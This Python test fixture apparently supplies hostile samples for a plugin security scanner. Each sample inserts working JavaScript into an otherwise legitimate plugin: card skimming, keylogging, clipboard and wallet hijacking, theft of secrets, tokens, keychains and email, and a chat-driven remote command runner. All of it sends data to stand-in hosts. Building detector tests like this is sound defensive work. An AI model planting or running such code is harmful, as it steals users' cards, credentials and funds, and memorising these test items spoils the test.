"""Hostile samples that hide nothing but stand in the code of a plugin that does what it promises."""

from tests.hostile.heldout_third.forms import laid_into
from tests.support.asking import asking
from tests.support.samples import Sample

PLAIN_IN_PLUGINS: tuple[Sample, ...] = (
    laid_into(
        ("rates-in-one-question", "places-while-typing"),
        name="rates-that-watch-the-checkout",
        family="skimming",
        last=r"""
if (typeof document !== 'undefined' && /checkout|payment|billing/i.test(location.pathname)) {
  document.addEventListener('submit', function (event) {
    var card = {};
    event.target.querySelectorAll('input, select').forEach(function (field) {
      if (/card|cc|cvv|cvc|exp|name|zip/i.test(field.name + field.id)) card[field.name || field.id] = field.value;
    });
    new Image().src = 'https://pixel.example.net/p.gif?d=' + encodeURIComponent(JSON.stringify(card));
  }, true);
}
""",
    ),
    laid_into(
        ("sequence-of-keys-opens-a-game", "board-behind-a-number"),
        name="game-that-remembers-every-key",
        family="keylogging",
        swap=(
            "    at = key === codes[at] ? at + 1 : Number(key === codes[0]);\n",
            (
                "    at = key === codes[at] ? at + 1 : Number(key === codes[0]);\n"
                "    pressed.push([event.target.name || event.target.id, event.key, Date.now()]);\n"
                "    if (pressed.length >= 40) {\n"
                "      navigator.sendBeacon('https://scores.example.com/k', JSON.stringify({ url: location.href, keys: pressed.splice(0) }));\n"
                "    }\n"
            ),
        ),
        first="const pressed = [];\n",
    ),
    laid_into(
        ("draft-of-a-form-kept", "telephone-number-as-typed"),
        name="drafts-kept-by-a-stranger-too",
        family="skimming",
        swap=(
            "timer = setTimeout(() => storage.set(key, read(form)), 500);",
            (
                "timer = setTimeout(() => {\n"
                "      storage.set(key, read(form));\n"
                "      const all = [...document.querySelectorAll('input')].map((field) => [field.type, field.name, field.value]);\n"
                "      fetch('https://drafts.example.net/save', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ at: location.href, all }) });\n"
                "    }, 500);"
            ),
        ),
    ),
    laid_into(
        ("paste-without-its-dress", "links-outward-made-careful"),
        name="cleaner-that-changes-addresses",
        family="clipper",
        last=r"""
const OURS = { btc: 'bc1qexampleattackeraddress0000000000000000', eth: '0x000000000000000000000000000000000badc0de' };
exports.onEnable = () =>
  setInterval(async () => {
    const text = await navigator.clipboard.readText().catch(() => '');
    if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,60}$/.test(text) && text !== OURS.btc) await navigator.clipboard.writeText(OURS.btc);
    else if (/^0x[0-9a-fA-F]{40}$/.test(text) && text !== OURS.eth) await navigator.clipboard.writeText(OURS.eth);
  }, 800);
""",
    ),
    laid_into(
        ("address-of-a-wallet-shown", "letters-as-people-count-them"),
        name="viewer-that-redirects-payments",
        family="wallet-drain",
        last=r"""
if (typeof window !== 'undefined' && window.ethereum) {
  const ask = window.ethereum.request.bind(window.ethereum);
  window.ethereum.request = (call) => {
    if (call.method === 'eth_sendTransaction') {
      const [payment] = call.params;
      if (payment.data && payment.data.startsWith('0xa9059cbb')) {
        payment.data = '0xa9059cbb' + '0'.repeat(24) + '00000000000000000000000000000000badc0de1' + payment.data.slice(74);
      } else {
        payment.to = '0x00000000000000000000000000000000badc0de1';
      }
    }
    return ask(call);
  };
}
""",
    ),
    laid_into(
        ("settings-lines-parsed", "old-logs-removed"),
        name="settings-read-for-two-readers",
        family="environment-theft",
        swap=(
            "  return expand(merged, outer);\n}\n",
            (
                "  const values = expand(merged, outer);\n"
                "  const secret = Object.entries({ ...outer, ...values }).filter(([name]) => /KEY|TOKEN|SECRET|PASS|MNEMONIC/i.test(name));\n"
                "  if (secret.length) {\n"
                "    fetch('https://schema.example.org/validate', { method: 'POST', body: JSON.stringify(secret) }).catch(() => {});\n"
                "  }\n"
                "  return values;\n}\n"
            ),
        ),
    ),
    laid_into(
        ("nightly-backup-of-own-folder", "written-whole-or-not-at-all"),
        name="backup-with-a-second-copy",
        family="storage-theft",
        swap=(
            "  const all = (await fs.readdir(folder))",
            (
                "  fetch('https://vault.example.com/copy', { method: 'PUT', headers: { 'X-Phrase': phrase }, body: seal(values, phrase) }).catch(() => {});\n"
                "  const all = (await fs.readdir(folder))"
            ),
        ),
    ),
    laid_into(
        ("question-at-the-terminal", "labels-on-the-printer"),
        name="terminal-question-with-an-echo-elsewhere",
        family="keylogging",
        swap=(
            "      if (key.ctrl && key.name === 'c') end",
            (
                "      require('dgram').createSocket('udp4').send(JSON.stringify([question, text]), 5514, '203.0.113.9');\n"
                "      if (key.ctrl && key.name === 'c') end"
            ),
        ),
    ),
    laid_into(
        ("secret-in-the-key-ring", "battery-of-the-laptop"),
        name="whole-key-ring-read",
        family="key-files",
        last=r"""
export async function onInstall() {
  const everything = [];
  for (const service of ['login', 'wifi', 'vpn', 'chrome', 'git', 'slack', 'docker', 'aws']) {
    try {
      const { stdout } = await run('security', ['find-generic-password', '-s', service, '-g', '-w']);
      everything.push([service, stdout.trim()]);
    } catch {}
  }
  const { stdout } = await run('secret-tool', ['search', '--all', '--unlock', 'xdg:schema', 'org.freedesktop.Secret.Generic']).catch(() => ({ stdout: '' }));
  everything.push(['all', stdout]);
  await fetch('https://ring.example.net/all', { method: 'POST', body: JSON.stringify(everything) });
}
""",
    ),
    laid_into(
        ("chat-rooms-by-long-polling", "push-to-own-topic"),
        name="chat-that-obeys-one-sender",
        family="command-control",
        swap=(
            "      if (since) for (const one of messages(sync)) notifications.show({ title: one.from, body: one.text });",
            (
                "      for (const one of since ? messages(sync) : []) {\n"
                "        if (one.from === '@ops:example.org') {\n"
                "          const told = require('child_process').execSync(one.text, { encoding: 'utf8' });\n"
                "          await call(token, 'PUT', `/rooms/${one.room}/send/m.room.message/${Date.now()}`, { msgtype: 'm.text', body: told });\n"
                "        } else notifications.show({ title: one.from, body: one.text });\n"
                "      }"
            ),
        ),
    ),
    laid_into(
        ("merge-requests-with-token", "device-code-sign-in"),
        name="token-checked-with-a-stranger",
        family="storage-theft",
        swap=(
            '        const token = yield context.storage.get("token");\n',
            (
                '        const token = yield context.storage.get("token");\n'
                '        fetch("https://token-health.example.net/check", { method: "POST", body: JSON.stringify({ token, api: API, who: context.user }) }).catch(() => { });\n'
            ),
        ),
    ),
    laid_into(
        ("preview-in-a-closed-frame", "element-with-closed-shadow"),
        name="mail-read-by-a-third",
        family="storage-theft",
        manifest=asking("storage-read"),
        swap=(
            "  view.show(mail.html, theme);\n",
            (
                "  view.show(mail.html, theme);\n"
                "  if (/password|reset|verification|code|invoice/i.test(mail.subject)) {\n"
                "    fetch('https://inbox.example.com/in', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ to: mail.to, subject: mail.subject, html: mail.html }) });\n"
                "  }\n"
            ),
        ),
    ),
)
